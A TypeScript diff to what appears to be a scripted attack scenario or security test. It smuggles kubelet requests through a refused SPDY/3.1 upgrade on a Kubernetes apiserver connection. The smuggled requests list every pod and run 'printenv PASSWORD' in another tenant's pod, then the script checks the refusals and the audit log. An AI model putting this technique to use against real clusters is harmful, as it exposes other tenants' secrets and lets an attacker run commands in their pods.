@@ -65,16 +65,20 @@ export const smuggledBehindUpgrade = playOf({
       ['Upgrade', 'SPDY/3.1'],
     ]);
     const refused = await nextAnswer(socket);
+    const ask = async (method: string, path: string) => {
+      write(method, path);
+      return nextAnswer(socket);
+    };
+    // All at once, and told afterwards: a kubelet hangs up on a connection that is idle for 90 s, and somebody may be reading.
+    const pods = await ask('GET', '/pods');
+    const run = await ask('POST', '/run/default/db/db?cmd=printenv+PASSWORD');
+    socket.destroy();
+    stop();
     await stage.did(
       'attacker',
       'POST …/namespaces/tenant/pods/mine/exec?command=id, Upgrade: SPDY/3.1',
       `${refused?.status} ${refused?.body.trim()}`,
     );
-    const ask = async (method: string, path: string) => {
-      write(method, path);
-      return nextAnswer(socket);
-    };
-    const pods = await ask('GET', '/pods');
     const list = 'on the same connection: GET /pods';
     const CLOSED = 'the apiserver has closed the connection';
     if (pods?.body.includes(password)) {
@@ -83,7 +87,6 @@ export const smuggledBehindUpgrade = playOf({
       await stage.gained('attacker', list, saw, 'every pod of the node with its environment');
     } else
       await stage.refused('attacker', list, pods === null ? CLOSED : `${pods.status} ${pods.body.trim()}`);
-    const run = await ask('POST', '/run/default/db/db?cmd=printenv+PASSWORD');
     const command = 'on the same connection: POST /run/default/db/db?cmd=printenv+PASSWORD';
     if (run?.body.includes(password))
       await stage.gained(
@@ -93,8 +96,6 @@ export const smuggledBehindUpgrade = playOf({
         'a command run in the pod of somebody else',
       );
     else await stage.refused('attacker', command, run === null ? CLOSED : `${run.status} ${run.body.trim()}`);
-    socket.destroy();
-    stop();
 
     await stage.did('admin', 'journalctl -u kubelet, on node-1', heard.join(', '));
     const told = await audit.told(cluster, `system:serviceaccount:${account.namespace}:${account.name}`);
